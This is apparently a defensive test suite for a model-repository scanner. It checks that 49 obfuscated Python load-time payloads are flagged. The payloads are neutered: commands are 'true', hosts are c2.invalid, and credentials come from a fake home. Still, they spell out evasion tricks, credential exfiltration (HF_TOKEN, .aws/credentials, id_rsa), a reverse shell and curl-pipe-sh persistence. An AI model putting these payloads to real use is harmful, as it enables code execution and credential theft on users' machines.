"""Evasions written after the rules, not fitted to them: each must reach >= high.

A red-team set of 49 load-time payloads across the ways Python hides a call
(aliases, dynamic imports, string building, callbacks, class-creation hooks,
deferred execution, persistence, exfiltration, native calls, download-then-
load). Harmless if executed: commands are ``true``, hosts are ``.invalid``,
files are written under the temp dir and credentials are read from a fake
home (``LG_FAKE_HOME``) that does not exist.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from loadguard.engine import scan_snapshot
from loadguard.model import Severity
from loadguard.sources.local import snapshot_from_folder

CASES = {
    "alias_import": "from os import system as s\ns('true')\n",
    "dunder_import": "sp = __import__('subpro' + 'cess')\nsp.Popen(['sh','-c','true'])\n",
    "getattr_builtins": "import builtins\ngetattr(builtins, 'ev'+'al')('1+1')\n",
    "builtins_dict": "__builtins__.__dict__['exec']('x=1') if isinstance(__builtins__, dict) is False else __builtins__['exec']('x=1')\n",
    "methodcaller": "import operator, os\noperator.methodcaller('system', 'true')(os)\n",
    "reversed_str": "import os\nos.system(''.join(reversed('eurt')))\n",
    "chr_list": "import os\nos.system(''.join(map(chr,[116,114,117,101])))\n",
    "bytes_fromhex": "import subprocess\nsubprocess.call(bytes.fromhex('74727565').decode(), shell=True)\n",
    "rot13": "import codecs, os\nos.system(codecs.decode('gehr', 'rot13'))\n",
    "zlib_b64": "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJxLrYjPTUzPjM/JTEkt0lCqzs/RyMlMTtWpBgBeTwd3')))\n",
    "format_str": "import os\ncmd='{}{}'.format('tr','ue')\nos.system(cmd)\n",
    "translate": "import os\nos.system('jf'.translate(str.maketrans('jf','true')))\n",
    "class_decorator": "import os\ndef deco(c):\n    os.system('true')\n    return c\n@deco\nclass M:\n    pass\n",
    "init_subclass": "import os\nclass Base:\n    def __init_subclass__(cls, **kw):\n        os.system('true')\nclass M(Base):\n    pass\n",
    "default_arg": "import os\ndef f(x=os.system('true')):\n    pass\n",
    "set_name": "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('true')\nclass M:\n    d = D()\n",
    "atexit": "import atexit, os\natexit.register(os.system, 'true')\n",
    "timer": "import threading, os\nthreading.Timer(5, os.system, args=('true',)).start()\n",
    "settrace": "import sys, os\ndef t(*a):\n    os.system('true')\nsys.settrace(t)\n",
    "pth_write": "import site, os, tempfile\nsite.getsitepackages()\nopen(os.path.join(tempfile.gettempdir(), 'x.pth'), 'w').write('import os;os.system(\"id\")')\n",
    "sitecustomize": "import site, os, tempfile\nsite.getusersitepackages()\nopen(os.path.join(tempfile.gettempdir(), 'sitecustomize.py'), 'w').write('print(1)')\n",
    "cron": "import os, tempfile\nos.makedirs(os.path.join(os.environ.get('LG_FAKE_HOME', tempfile.gettempdir()), '.config/systemd/user'), exist_ok=True)\nopen(os.path.join(os.environ.get('LG_FAKE_HOME', tempfile.gettempdir()), '.config/systemd/user/x.service'),'w').write('[Service]')\n",
    "exfil_urllib": "import os, urllib.request\nurllib.request.urlopen('http://c2.invalid/?t=' + os.environ.get('HF_TOKEN',''))\n",
    "exfil_httpclient": "import os, http.client\nc = http.client.HTTPSConnection('c2.invalid')\nc.request('POST', '/', open(os.path.join(os.environ.get('LG_FAKE_HOME', '/nonexistent'), '.netrc')).read())\n",
    "dns_exfil": "import socket, os\nsocket.gethostbyname(os.environ.get('HF_TOKEN','x') + '.c2.invalid')\n",
    "pty_spawn": "import pty, socket\ns=socket.socket()\ns.connect(('c2.invalid',4444))\npty.spawn('/bin/sh')\n",
    "ctypes_system": "import ctypes\nctypes.CDLL('libc.so.6').system(b'true')\n",
    "multiprocessing": "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('true',)).start()\n",
    "spec_from_file": "import importlib.util\nspec = importlib.util.spec_from_file_location('x', '/tmp/lg-never-written/x.py')\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
    "marshal_func": "import marshal, types\ncode = marshal.loads(b'\\xe3')\ntypes.FunctionType(code, globals())()\n",
    "pickle_embedded": "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n",
    "torch_load_dl": "import torch, urllib.request\nurllib.request.urlretrieve('http://c2.invalid/w.bin', '/tmp/lg-never-written/w.bin')\ntorch.load('/tmp/lg-never-written/w.bin')\n",
    "hf_hub_exec": "from huggingface_hub import hf_hub_download\np = hf_hub_download('evil/x', 'payload.py')\nexec(open(p).read())\n",
    "getattr_os": "import os\ngetattr(os, 'sys'+'tem')('true')\n",
    "vars_module": "import os\nvars(os)['system']('true')\n",
    "globals_lookup": "import os\nf = globals()['o'+'s'].system\nf('true')\n",
    "lambda_chain": "import os\n(lambda f: f('true'))(os.system)\n",
    "eval_compile": "code = compile('import os\\nos.system(\"id\")', '<x>', 'exec')\neval(code)\n",
    "exec_in_property": "import os\nclass M:\n    @property\n    def cfg(self):\n        os.system('true')\n        return 1\n",
    "subprocess_list_sh": "import subprocess\nsubprocess.run(['bash', '-c', 'curl http://c2.invalid | sh'])\n",
    "os_popen": "import os\nos.popen('true').read()\n",
    "shutil_which_exec": "import os, shutil\nos.execv(shutil.which('sh'), ['sh', '-c', 'true'])\n",
    "socket_raw": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('c2.example.invalid', 4444))\ns.send(open(os.environ.get('LG_FAKE_HOME', '/nonexistent') + '/fake-passwd','rb').read())\n",
    "requests_post_creds": "import requests, os\nrequests.post('https://c2.invalid', data=open(os.path.join(os.environ.get('LG_FAKE_HOME', '/nonexistent'), '.aws/credentials')).read())\n",
    "walrus_import": "if (m := __import__('os')):\n    m.system('true')\n",
    "nested_getattr_import": "getattr(__import__('o'+'s'), 'system')('true')\n",
    "importlib_attr": "import importlib\nimportlib.import_module('os').system('true')\n",
    "builtins_open_write_bashrc": "import pathlib, tempfile\npathlib.Path(tempfile.gettempdir()).joinpath('.bashrc').open('a').write('curl http://c2.invalid|sh')\n",
    "str_concat_cred": "import os\np = os.path.join(os.environ.get('LG_FAKE_HOME', '/nonexistent'), '.ss' + 'h', 'id_rsa')\nd = open(p).read()\nimport urllib.request\nurllib.request.urlopen('http://c2.invalid', d.encode())\n",
}

MakeRepo = Callable[[dict[str, object]], Path]
CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
MODEL = "\nclass XModel:\n    def __init__(self, *a, **k):\n        pass\n"


@pytest.mark.parametrize("name", sorted(CASES))
def test_evasion_is_found_at_high_or_above(name: str, make_repo: MakeRepo) -> None:
    root = make_repo({"config.json": CONFIG, "modeling_x.py": CASES[name] + MODEL})
    result = scan_snapshot(snapshot_from_folder(root))
    found = [
        (f.rule_id, f.severity.label)
        for f in result.findings
        if f.location.path == "modeling_x.py" and f.severity >= Severity.HIGH
    ]
    assert found, [(f.rule_id, f.severity.label, f.message) for f in result.findings]
